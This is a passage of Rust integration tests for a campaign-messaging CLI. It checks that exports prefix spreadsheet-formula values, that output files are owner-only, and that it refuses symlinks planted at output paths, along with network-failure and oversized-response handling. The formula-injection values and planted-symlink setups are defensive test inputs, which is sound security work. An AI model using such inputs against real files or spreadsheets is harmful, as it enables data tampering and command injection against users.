    drop(listener);

    let csv_of = |args: &[&str]| -> Vec<csv::StringRecord> {
        let o = f.cmd().args(args).output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
        csv::Reader::from_reader(o.stdout.as_slice())
            .records()
            .map(Result::unwrap)
            .collect()
    };
    let jsonl_of = |args: &[&str]| -> Vec<serde_json::Value> {
        let o = f.cmd().args(args).output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
        stdout_of(&o)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let neutral = |s: &str| format!("'{s}");

    // export: key (column 0), error (9), last_reply (12).
    let rows = csv_of(&["export", "campaign.yaml"]);
    let cells = |col: usize| -> Vec<String> { rows.iter().map(|r| r[col].to_string()).collect() };
    assert_eq!(
        cells(0),
        [
            neutral(HYPERLINK),
            neutral(CMD),
            neutral(SUM),
            neutral(MINUS),
            "Ana".into()
        ]
    );
    assert_eq!(cells(9)[3], neutral(API_ERROR));
    assert_eq!(cells(12)[0], neutral(MINUS));
    assert_eq!(cells(12)[4], neutral(HYPERLINK));
    let lines = jsonl_of(&["export", "campaign.yaml", "--format", "jsonl"]);
    let keys: Vec<&str> = lines.iter().map(|l| l["key"].as_str().unwrap()).collect();
    assert_eq!(keys, [HYPERLINK, CMD, SUM, MINUS, "Ana"]);
    assert_eq!(lines[3]["error"], API_ERROR);
    assert_eq!(lines[0]["last_reply"], MINUS);
    assert_eq!(lines[4]["last_reply"], HYPERLINK);

    // replies: key (column 1), text (5).
    let mut replies: Vec<(String, String)> = csv_of(&["replies", "campaign.yaml"])
        .iter()
        .map(|r| (r[1].to_string(), r[5].to_string()))
        .collect();
    replies.sort();
    assert_eq!(
        replies,
        [
            (neutral(HYPERLINK), neutral(MINUS)),
            ("Ana".to_string(), neutral(HYPERLINK)),
        ]
    );
    let mut replies: Vec<(String, String)> =
        jsonl_of(&["replies", "campaign.yaml", "--format", "jsonl"])
            .iter()
            .map(|r| {
                (
                    r["contact_key"].as_str().unwrap().to_string(),
                    r["text"].as_str().unwrap().to_string(),
                )
            })
            .collect();
    replies.sort();
    assert_eq!(
        replies,
        [
            (HYPERLINK.to_string(), MINUS.to_string()),
            ("Ana".to_string(), HYPERLINK.to_string()),
        ]
    );
}

/// A loopback URL on which nothing listens: a port taken from the system, then let go.
pub(crate) fn closed_port_url() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    drop(listener);
    format!("http://{addr}/messages/v1/send")
}

/// The run's command, without the proxies the machine may name (a proxy would answer instead).
fn run_without_proxies(f: &Fixture, extra: &[&str]) -> std::process::Output {
    let mut c = f.run_cmd();
    for var in [
        "HTTPS_PROXY",
        "https_proxy",
        "HTTP_PROXY",
        "http_proxy",
        "ALL_PROXY",
        "all_proxy",
    ] {
        c.env_remove(var);
    }
    c.args(extra).output().unwrap()
}

/// The contacts the ledger holds in any state a request leads to.
fn attempted(f: &Fixture) -> Vec<Vec<String>> {
    f.sql("SELECT key, status FROM contacts WHERE status IN ('sending', 'sent', 'queued', 'failed', 'unknown')")
}

#[test]
fn an_api_that_refuses_every_connection_stops_the_run_and_sends_nobody_twice_later() {
    let url = closed_port_url();
    // With no retry or one, each contact spends its attempts before the run finds the API
    // unreachable: they stay unsent all the same.
    for retries in ["0", "1"] {
        let few = sandbox::fixture(
            &url,
            19,
            &format!("send:\n  concurrency: 1\n  retries: {retries}\n"),
        );
        let out = run_without_proxies(&few, &[]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
        assert!(
            attempted(&few).is_empty(),
            "retries {retries}: {:?}",
            attempted(&few)
        );
    }
    let f = sandbox::fixture(&url, 19, "");
    let out = run_without_proxies(&f, &[]);
    let err = stderr_of(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("refused") && err.contains(&url), "{err}");
    assert!(attempted(&f).is_empty(), "{:?}", attempted(&f));
    // The ledger holds no contact at all, and the run with why it stopped.
    assert_eq!(f.sql("SELECT COUNT(*) FROM contacts")[0][0], "0");
    assert_eq!(
        f.sql("SELECT stopped, exit_code, requests FROM runs"),
        [["unreachable", "1", "0"]]
    );

    // Once the API answers, every contact is sent, once.
    let server = TestServer::sent_ok();
    f.write(
        "campaign.yaml",
        &std::fs::read_to_string(f.campaign())
            .unwrap()
            .replace(&url, &server.url()),
    );
    let out = run_without_proxies(&f, &["--accept-change"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let mut keys: Vec<String> = server
        .requests()
        .iter()
        .map(|r| {
            r.body["contact"]["external_id"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    keys.sort();
    let mut expected: Vec<String> = (1..=19).map(|i| format!("K{i}")).collect();
    expected.sort();
    assert_eq!(keys, expected);
    assert_eq!(
        f.sql("SELECT COUNT(*) FROM contacts WHERE status = 'sent'")[0][0],
        "19"
    );
}

#[test]
fn an_api_whose_name_does_not_resolve_stops_the_run_naming_the_cause() {
    // `.invalid` never resolves (RFC 2606); the name fails before any TLS.
    let url = "https://cosmocast-test.invalid/messages/v1/send";
    let f = sandbox::fixture(url, 19, "");
    let out = run_without_proxies(&f, &[]);
    let err = stderr_of(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            "cannot reach the API at {url} (dns: cannot resolve cosmocast-test.invalid"
        )),
        "{err}"
    );
    assert!(attempted(&f).is_empty(), "{:?}", attempted(&f));
}

#[test]
fn plain_progress_lines_name_the_most_frequent_error_while_failures_occur() {
    let server = TestServer::start(Arc::new(|_, _| {
        // Slow enough that the run lasts a few progress lines.
        std::thread::sleep(std::time::Duration::from_millis(40));
        (400, "{\"error\": \"the channel is paused\"}".to_string())
    }));
    let f = sandbox::fixture(&server.url(), 40, "send:\n  concurrency: 1\n");
    let out = f
        .cmd()
        .env("COSMOCAST_PROGRESS_EVERY_MS", "200")
        .args(["run", "campaign.yaml", "--progress", "plain"])
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert_eq!(out.status.code(), Some(3), "{err}");
    let named: Vec<&str> = err
        .lines()
        .filter(|l| l.contains("; most frequent error: http_400 ×"))
        .collect();
    assert!(!named.is_empty(), "{err}");
    assert!(
        named.iter().all(|l| l.contains("the channel is paused")),
        "{err}"
    );
}

#[test]
fn a_template_both_included_and_named_by_the_campaign_is_checked_against_the_columns() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS)
        .write(
            "campaign.yaml",
            &campaign_yaml(
                &server.url(),
                "  - type: text\n    template: main.j2\n  - type: text\n    template: footer.j2\n",
                "",
            ),
        )
        .write("templates/main.j2", "Hi {% include 'footer.j2' %}")
        .write("templates/footer.j2", "\nYour {{ plan }} plan");
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.starts_with("templates/footer.j2:2: the template uses `plan`, which is not a column of the contact file"),
        "{err}"
    );
    assert_eq!(err.matches("footer.j2").count(), 1, "{err}");
}

/// A misspelt `vars.NAME`, and a column an included template names that the file lacks: every
/// row would fail on them, so `check` names each once, at its template line, and `run
/// --skip-invalid` cannot leave every row out as invalid and exit 0. A name the including
/// template binds (a loop's variable) is not such a mistake.
#[test]
fn a_misspelt_var_or_an_included_templates_unknown_column_is_found_once() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS)
        .write(
            "campaign.yaml",
            &campaign_yaml(
                &server.url(),
                "  - type: text\n    text: \"See {{ vars.store_ulr }}/offers\"\n  - type: text\n    template: main.j2\n",
                "vars:\n  store_url: https://shop.example\n",
            ),
        )
        .write(
            "templates/main.j2",
            "Hi {% for item in ['a', 'b'] %}{% include 'line.j2' %}{% endfor %}{% include 'footer.j2' %}",
        )
        .write("templates/line.j2", "{{ item }}")
        .write("templates/footer.j2", "\nShop {{ city }}");
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("campaign.yaml:17: the template uses `vars.store_ulr`, which the campaign's `vars:` does not define — did you mean `vars.store_url`?"),
        "{err}"
    );
    assert!(
        err.contains("templates/footer.j2:2: the template uses `city`, which is not a column of the contact file"),
        "{err}"
    );
    assert!(!err.contains("item"), "{err}");
    assert!(!err.contains("row 1"), "found once, not row by row: {err}");
    let out = f.run_cmd().arg("--skip-invalid").output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
    assert_eq!(server.count(), 0);
}

/// The real binary with the fixture's environment, as a plain `Command`: these tests choose its
/// umask, limits and stdout themselves.
fn bin(f: &Fixture) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cosmocast"));
    cmd.current_dir(f.dir.path())
        .env("COSMOCAST_LEDGER", f.ledger())
        .env("XDG_DATA_HOME", f.path("xdg"))
        .env("COSMOBOTS_TOKEN", TOKEN)
        .env("COSMOBOTS_CHANNEL_ID", CHANNEL);
    cmd
}

/// [`bin`] under umask 022, where a file created without care is readable by everyone (0644).
fn under_umask_022(f: &Fixture) -> Command {
    let mut cmd = bin(f);
    // SAFETY: umask is async-signal-safe, and nothing else runs between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0o022);
            Ok(())
        });
    }
    cmd
}

fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    let meta = std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    meta.permissions().mode() & 0o777
}

/// The names in a folder, sorted.
fn names_in(dir: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A campaign of one inline text to `server`, with two contacts.
fn hello_campaign(server: &TestServer) -> Fixture {
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(
            &server.url(),
            "  - type: text\n    text: \"Hi {{ first_name }}\"\n",
            "",
        ),
    );
    f
}

/// Every command that writes a file of phones or replies, and the file it writes.
const WRITERS: [(&[&str], &str); 5] = [
    (
        &["export", "campaign.yaml", "-o", "export.csv"],
        "export.csv",
    ),
    (
        &["replies", "campaign.yaml", "-o", "replies.csv"],
        "replies.csv",
    ),
    (&["report", "campaign.yaml"], "test-campaign.report.html"),
    (
        &["report", "campaign.yaml", "-o", "report.html"],
        "report.html",
    ),
    (
        &["preview", "campaign.yaml", "--html", "preview.html"],
        "preview.html",
    ),
];

#[test]
fn the_ledger_exports_reports_and_previews_are_owner_only_under_umask_022() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    let run = under_umask_022(&f)
        .args(["run", "campaign.yaml", "--progress", "none"])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(0), "{}", stderr_of(&run));
    assert_eq!(mode(&f.ledger()), 0o600, "the ledger");
    for (args, file) in WRITERS {
        let out = under_umask_022(&f).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr_of(&out));
        assert_eq!(mode(&f.path(file)), 0o600, "{args:?} wrote {file}");
    }
    // Nothing else was left beside them (no temporary file).
    let mut expected = vec![
        "campaign.yaml",
        "contacts.csv",
        "templates",
        "workspace.sqlite",
    ];
    expected.extend(WRITERS.map(|(_, file)| file));
    expected.sort();
    assert_eq!(names_in(f.dir.path()), expected);

    // A ledger that others may read (copied with cp under umask 022, say) is made owner-only
    // by the next command that writes to it.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(f.ledger(), std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = under_umask_022(&f)
        .args(["run", "campaign.yaml", "--progress", "none"])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(0), "{}", stderr_of(&run));
    assert_eq!(mode(&f.ledger()), 0o600, "the ledger, made owner-only");
    // And the sandbox's request log, which holds phones and names.
    let log = f.path("sandbox.log");
    let mut sandbox = under_umask_022(&f)
        .args(["sandbox", "--addr", "127.0.0.1:0", "--log"])
        .arg(&log)
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    wait_until(
        "the sandbox's log",
        std::time::Duration::from_secs(30),
        || log.exists(),
    );
    let _ = sandbox.kill();
    let _ = sandbox.wait();
    assert_eq!(mode(&log), 0o600, "the sandbox log");

    // A link planted at the log's name is refused: its target is neither written nor chmodded.
    f.write("victim.txt", "kept\n");
    std::fs::set_permissions(f.path("victim.txt"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(f.path("victim.txt"), f.path("planted.log")).unwrap();
    let refused = f
        .cmd()
        .args(["sandbox", "--addr", "127.0.0.1:0", "--log", "planted.log"])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(1), "{}", stderr_of(&refused));
    assert!(
        stderr_of(&refused).contains("is a symbolic link"),
        "{}",
        stderr_of(&refused)
    );
    assert_eq!(mode(&f.path("victim.txt")), 0o644);
    assert_eq!(
        std::fs::read_to_string(f.path("victim.txt")).unwrap(),
        "kept\n"
    );
}

#[test]
fn the_ledgers_wal_and_shm_are_owner_only_under_umask_022_while_listen_holds_them() {
    let f = Fixture::new();
    let err = f.path("listen.err");
    let mut child = under_umask_022(&f)
        .args(["listen", "--addr", "127.0.0.1:0", "--create"])
        .env(
            "COSMOCAST_WEBHOOK_SECRET",
            "s3cret-s3cret-s3cret-s3cret-s3cret",
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&err).unwrap())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while !file_contains(&err, "listening") {
        if started.elapsed() > std::time::Duration::from_secs(30)
            || child.try_wait().unwrap().is_some()
        {
            let _ = child.kill();
            panic!(
                "listen did not start: {}",
                std::fs::read_to_string(&err).unwrap()
            );
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let modes: Vec<(String, u32)> = ["", "-wal", "-shm"]
        .iter()
        .map(|suffix| {
            let name = format!("workspace.sqlite{suffix}");
            let m = mode(&f.path(&name));
            (name, m)
        })
        .collect();
    // SAFETY: kill(2) on our own child's pid.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    let status = child.wait().unwrap();
    for (name, m) in modes {
        assert_eq!(m, 0o600, "{name}");
    }
    assert_eq!(status.code(), Some(0));
}

#[test]
fn output_files_replace_a_planted_symlink_and_never_write_through_it() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    assert_eq!(f.run().status.code(), Some(0));
    f.write("victim.txt", "precious");
    for (args, file) in WRITERS {
        std::os::unix::fs::symlink(f.path("victim.txt"), f.path(file)).unwrap();
        let out = bin(&f).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr_of(&out));
        let meta = std::fs::symlink_metadata(f.path(file)).unwrap();
        assert!(meta.is_file(), "{args:?}: {file} is still a symlink");
        assert_eq!(
            std::fs::read_to_string(f.path("victim.txt")).unwrap(),
            "precious",
            "{args:?} wrote through the symlink"
        );
    }
}

#[test]
fn a_write_that_fails_midway_leaves_the_old_file_and_nothing_beside_it() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    assert_eq!(f.run().status.code(), Some(0));
    // Every file this process writes stops growing at 64 bytes (EFBIG, once SIGXFSZ is
    // ignored): the export and the report fail partway through.
    let limit = libc::rlimit {
        rlim_cur: 64,
        rlim_max: 64,
    };
    for (args, file) in [WRITERS[0], WRITERS[3], WRITERS[4]] {
        f.write(file, "the old one");
        let before = names_in(f.dir.path());
        let mut cmd = bin(&f);
        // SAFETY: signal and setrlimit are async-signal-safe, and nothing else runs between
        // fork and exec; an ignored signal stays ignored across exec.
        unsafe {
            cmd.pre_exec(move || {
                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
                match libc::setrlimit(libc::RLIMIT_FSIZE, &limit) {
                    0 => Ok(()),
                    _ => Err(std::io::Error::last_os_error()),
                }
            });
        }
        let out = cmd.args(args).output().unwrap();
        let err = stderr_of(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert!(
            err.starts_with(&format!("error: cannot write {file}: File too large")),
            "{args:?}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert_eq!(
            std::fs::read_to_string(f.path(file)).unwrap(),
            "the old one"
        );
        assert_eq!(names_in(f.dir.path()), before, "{args:?}");
    }
}

/// Opens /dev/full, where every write fails with ENOSPC, as a child's stdout.
fn dev_full() -> std::fs::File {
    std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap()
}

#[test]
fn a_full_stdout_ends_read_only_commands_with_exit_1_and_one_line() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    assert_eq!(f.run().status.code(), Some(0));
    for args in [
        &["status", "campaign.yaml"][..],
        &["status", "campaign.yaml", "--json"],
        &["preview", "campaign.yaml"],
        &["preview", "campaign.yaml", "--json"],
        &["export", "campaign.yaml"],
        &["export", "campaign.yaml", "--format", "jsonl"],
        &["check", "campaign.yaml"],
        &["check", "campaign.yaml", "--json"],
    ] {
        let out = bin(&f).args(args).stdout(dev_full()).output().unwrap();
        let err = stderr_of(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(
            err.starts_with("error: cannot write to stdout: No space left on device"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn a_run_whose_stdout_is_full_still_sends_everyone_and_records_them() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    for json in [false, true] {
        let mut cmd = bin(&f);
        cmd.args(["run", "campaign.yaml", "--progress", "none"]);
        if json {
            cmd.arg("--json");
        }
        let out = cmd.stdout(dev_full()).output().unwrap();
        let err = stderr_of(&out);
        assert!(matches!(out.status.code(), Some(0 | 1)), "{err}");
        assert!(!err.contains("panicked"), "{err}");
    }
    assert_eq!(server.count(), 2);
    assert_eq!(
        f.sql("SELECT status, COUNT(*) FROM contacts GROUP BY status"),
        [["sent", "2"]]
    );
}

#[test]
fn a_ledger_that_is_a_fifo_a_folder_or_a_device_is_refused_and_nothing_is_created_beside_it() {
    let server = TestServer::sent_ok();
    let f = hello_campaign(&server);
    std::fs::create_dir_all(f.path("spot/folder")).unwrap();
    let fifo = f.path("spot/fifo");
    let c_fifo = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid, NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c_fifo.as_ptr(), 0o600) }, 0);
    let cases = [
        (fifo.clone(), "run"),
        (fifo.clone(), "status"),
        (f.path("spot/folder"), "run"),
        (f.path("spot/folder"), "status"),
        ("/dev/null".into(), "status"),
    ];
    for (ledger, command) in cases {
        let out = bin(&f)
            .args([command, "campaign.yaml", "--ledger"])
            .arg(&ledger)
            .output()
            .unwrap();
        let err = stderr_of(&out);
        assert_eq!(out.status.code(), Some(1), "{command} {ledger:?}: {err}");
        assert!(
            err.contains(&format!(
                "the ledger {} is not a regular file",
                ledger.display()
            )) && err.contains("--ledger")
                && err.contains("COSMOCAST_LEDGER"),
            "{command} {ledger:?}: {err}"
        );
    }
    assert_eq!(names_in(&f.path("spot")), ["fifo", "folder"]);
    assert!(names_in(&f.path("spot/folder")).is_empty());
    for beside in ["-journal", "-wal", "-shm"] {
        assert!(!std::path::Path::new(&format!("/dev/null{beside}")).exists());
    }
    assert_eq!(server.count(), 0);
}

/// `cosmocast check PATH`: exit code, stderr and how long it took.
fn check_path(f: &Fixture, path: &std::path::Path) -> (Option<i32>, String, std::time::Duration) {
    let started = std::time::Instant::now();
    let out = f
        .cmd()
        .arg("check")
        .arg(path)
        .timeout(std::time::Duration::from_secs(10))
        .output()
        .unwrap();
    (out.status.code(), stderr_of(&out), started.elapsed())
}

#[test]
fn a_device_a_fifo_a_huge_or_deeply_nested_campaign_file_is_refused_at_once() {
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS);
    let fifo = f.path("fifo.yaml");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let big = f.path("big.yaml");
    let mut yaml = campaign_yaml(
        "http://127.0.0.1:9/messages/v1/send",
        "  - type: text\n    text: Hi\n",
        "",
    );
    yaml.push_str(&format!("# {}\n", "x".repeat(2 * 1024 * 1024)));
    std::fs::write(&big, yaml).unwrap();
    let deep = f.path("deep.yaml");
    std::fs::write(&deep, "[".repeat(100_000)).unwrap();
    for (path, why) in [
        (std::path::PathBuf::from("/dev/zero"), "a character device"),
        (fifo, "a FIFO"),
        (big, "over the limit of 1 MiB (it holds 2.0 MiB)"),
        (deep, "nests deeper than 64 levels"),
    ] {
        let (code, err, took) = check_path(&f, &path);
        assert_eq!(code, Some(1), "{path:?}: {err}");
        assert!(err.contains(why), "{path:?}: {err}");
        assert!(
            err.contains("1 MiB") || err.contains("64 levels"),
            "{path:?} names no limit: {err}"
        );
        assert!(
            took < std::time::Duration::from_secs(2),
            "{path:?} took {took:?}"
        );
    }
}

/// What [`RawServer`] answers to one request.
enum Raw {
    /// A status line and headers (each ending in CRLF, no Content-Length), then this body.
    Whole(String, Vec<u8>),
    /// A status line and headers, then a chunked body that never ends.
    Endless(String),
}

/// An HTTP/1.1 server on 127.0.0.1 written on plain sockets, for answers no framework writes:
/// bodies without end, any header. Its threads end with the test process.
struct RawServer {
    addr: std::net::SocketAddr,
    requests: Arc<std::sync::atomic::AtomicUsize>,
    /// Bytes of endless bodies written so far.
    written: Arc<std::sync::atomic::AtomicU64>,
}

impl RawServer {
    fn start(answer: impl Fn(usize, &str) -> Raw + Send + Sync + 'static) -> RawServer {
        use std::sync::atomic::{AtomicU64, AtomicUsize};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let requests = Arc::new(AtomicUsize::new(0));
        let written = Arc::new(AtomicU64::new(0));
        let answer = Arc::new(answer);
        let (r, w) = (requests.clone(), written.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { return };
                let (r, w, answer) = (r.clone(), w.clone(), answer.clone());
                std::thread::spawn(move || serve_raw(stream, &r, &w, &*answer));
            }
        });
        RawServer {
            addr,
            requests,
            written,
        }
    }

    fn url(&self) -> String {
        format!("http://{}/messages/v1/send", self.addr)
    }

    fn count(&self) -> usize {
        self.requests.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Answers the requests of one connection until it closes.
fn serve_raw(
    stream: std::net::TcpStream,
    requests: &std::sync::atomic::AtomicUsize,
    written: &std::sync::atomic::AtomicU64,
    answer: &(dyn Fn(usize, &str) -> Raw + Send + Sync),
) {
    use std::io::{BufRead, Read, Write};
    use std::sync::atomic::Ordering;
    let mut out = stream.try_clone().unwrap();
    let mut reader = std::io::BufReader::new(stream);
    loop {
        let mut length = 0usize;
        let mut line = String::new();
        loop {
            line.clear();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                return;
            }
            if line == "\r\n" {
                break;
            }
            if let Some((name, value)) = line.split_once(':')
                && name.eq_ignore_ascii_case("content-length")
            {
                length = value.trim().parse().unwrap();
            }
        }
        let mut body = vec![0; length];
        if reader.read_exact(&mut body).is_err() {
            return;
        }
        let n = requests.fetch_add(1, Ordering::SeqCst);
        match answer(n, &String::from_utf8_lossy(&body)) {
            Raw::Whole(head, body) => {
                let head = format!("{head}content-length: {}\r\n\r\n", body.len());
                if out.write_all(head.as_bytes()).is_err() || out.write_all(&body).is_err() {
                    return;
                }
            }
            Raw::Endless(head) => {
                let head = format!("{head}transfer-encoding: chunked\r\n\r\n");
                let mut chunk = format!("{:x}\r\n", 64 * 1024).into_bytes();
                chunk.extend(std::iter::repeat_n(b'x', 64 * 1024));
                chunk.extend(b"\r\n");
                if out.write_all(head.as_bytes()).is_err() {
                    return;
                }
                while out.write_all(&chunk).is_ok() {
                    written.fetch_add(chunk.len() as u64, Ordering::SeqCst);
                }
                return;
            }
        }
    }
}

/// Runs the campaign and returns what it did, with its peak resident memory in KiB, as GNU time
/// measures it. Not `wait4`'s own figure: a child spawned from this test process (vfork, then
/// exec) starts its high-water mark at the test process's resident size, hundreds of MiB while
/// the other tests run.
fn run_measured(f: &Fixture) -> (std::process::Output, i64) {
    let time = std::path::Path::new("/usr/bin/time");
    assert!(
        time.exists(),
        "GNU time is needed to measure peak memory: apt-get install time (.ci/run installs it)"
    );
    let out = Command::new(time)
        .current_dir(f.dir.path())
        .env("COSMOCAST_LEDGER", f.ledger())
        .env("XDG_DATA_HOME", f.path("xdg"))
        .env("COSMOBOTS_TOKEN", TOKEN)
        .env("COSMOBOTS_CHANNEL_ID", CHANNEL)
        .args(["-f", "%M", "-o"])
        .arg(f.path("peak"))
        .arg(env!("CARGO_BIN_EXE_cosmocast"))
        .args(["run", "campaign.yaml", "--progress", "none"])
        .output()
        .unwrap();
    let peak = std::fs::read_to_string(f.path("peak")).unwrap();
    let peak = peak
        .lines()
        .last()
        .unwrap_or_default()
        .trim()
        .parse()
        .unwrap();
    (out, peak)
}

#[test]
fn an_answer_of_megabytes_or_without_end_is_cut_at_1_mib_and_the_contact_unknown() {
    let server = RawServer::start(|_, body| {
        let ok = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n".to_string();
        if body.contains("\"C1\"") {
            // A valid answer, but 3 MB long.
            let ids: Vec<String> = (0..300_000).map(|i| format!("id{i:05}")).collect();
            let answer = serde_json::json!({"status": "sent", "message_ids": ids});
            Raw::Whole(ok, answer.to_string().into_bytes())
        } else {
            Raw::Endless(ok)
        }
    });
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
    );
    let started = std::time::Instant::now();
    let (run, peak_kib) = run_measured(&f);
    let err = stderr_of(&run);
    assert_eq!(run.status.code(), Some(3), "{err}");
    // Neither waited for the 5 s timeout: the cut came at 1 MiB.
    assert!(
        started.elapsed() < std::time::Duration::from_secs(4),
        "{err}"
    );
    assert_eq!(server.count(), 2);
    assert_eq!(
        f.sql("SELECT key, status, reason FROM contacts ORDER BY key"),
        [
            ["5511999990001", "unknown", "answer_too_large"],
            ["5511999990002", "unknown", "answer_too_large"]
        ]
    );
    let errors = f.sql("SELECT error FROM contacts");
    assert!(
        errors
            .iter()
            .all(|e| e[0].contains("answer too large") && e[0].len() < 1000),
        "{errors:?}"
    );
    // The endless body was let go: a few MiB at most sat in the sockets' buffers.
    std::thread::sleep(std::time::Duration::from_millis(200));
    let written = server.written.load(std::sync::atomic::Ordering::SeqCst);
    assert!(written < 64 * 1024 * 1024, "{written} bytes written");
    assert!(peak_kib < 200 * 1024, "peak memory {peak_kib} KiB");
}

#[test]
fn a_hundred_message_ids_are_kept_with_the_count_of_all() {
    let server = TestServer::start(Arc::new(|_, body| {
        // 100,000 short ids fit in 1 MiB; 1,000,000 of them cannot (3 bytes each at least).
        let n = match body["contact"]["external_id"].as_str() {
            Some("C1") => 100_000,
            _ => 1_000_000,
        };
        let ids: Vec<String> = (0..n).map(|i| format!("{i:x}")).collect();
        (
            200,
            serde_json::json!({"status": "sent", "message_ids": ids}).to_string(),
        )
    }));
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
    );
    let run = f.run();
    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
    assert_eq!(
        f.sql(
            "SELECT key, status, reason, json_array_length(message_ids), json_extract(message_ids, '$[99]'), message_count FROM contacts ORDER BY key"
        ),
        [
            ["5511999990001", "sent", "", "100", "63", "100000"],
            ["5511999990002", "unknown", "answer_too_large", "", "", ""]
        ]
    );
}

/// A server that answers 429 with `retry_after` until `normal` is set, then sends.
fn throttling(retry_after: &'static str, normal: Arc<std::sync::atomic::AtomicBool>) -> RawServer {
    RawServer::start(move |n, _| {
        if normal.load(std::sync::atomic::Ordering::SeqCst) {
            let ok = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n".to_string();
            let body = format!("{{\"status\":\"sent\",\"message_ids\":[\"m{n}\"]}}");
            return Raw::Whole(ok, body.into_bytes());
        }
        Raw::Whole(
            format!("HTTP/1.1 429 Too Many Requests\r\nretry-after: {retry_after}\r\n"),
            b"{\"error\":\"slow down\"}".to_vec(),
        )
    })
}

#[test]
fn a_retry_after_beyond_max_wait_stops_the_run_and_a_later_run_sends_the_contact() {
    for (retry_after, named) in [
        ("999999", "wait 999999s (11d 13h)"),
        (
            "Fri, 01 Jan 2100 00:00:00 GMT",
            "longer than send.max_wait (5m)",
        ),
    ] {
        let normal = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let server = throttling(retry_after, normal.clone());
        let f = Fixture::new();
        f.write("contacts.csv", CONTACTS).write(
            "campaign.yaml",
            &campaign_yaml(
                &server.url(),
                "  - type: text\n    text: Hi\n",
                "send:\n  concurrency: 1\n",
            ),
        );
        let started = std::time::Instant::now();
        let run = f.run();
        let err = stderr_of(&run);
        assert_eq!(run.status.code(), Some(4), "{retry_after}: {err}");
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{err}"
        );
        assert!(err.contains("the API asked (Retry-After) to wait"), "{err}");
        assert!(err.contains(named), "{err}");
        assert_eq!(server.count(), 1, "{err}");
        // Given back, not failed: the ledger holds neither contact in any sent or failed state.
        assert!(attempted(&f).is_empty(), "{:?}", attempted(&f));
        assert_eq!(
            f.sql("SELECT stopped, exit_code FROM runs"),
            [["retry_after", "4"]]
        );

        normal.store(true, std::sync::atomic::Ordering::SeqCst);
        let again = f.run();
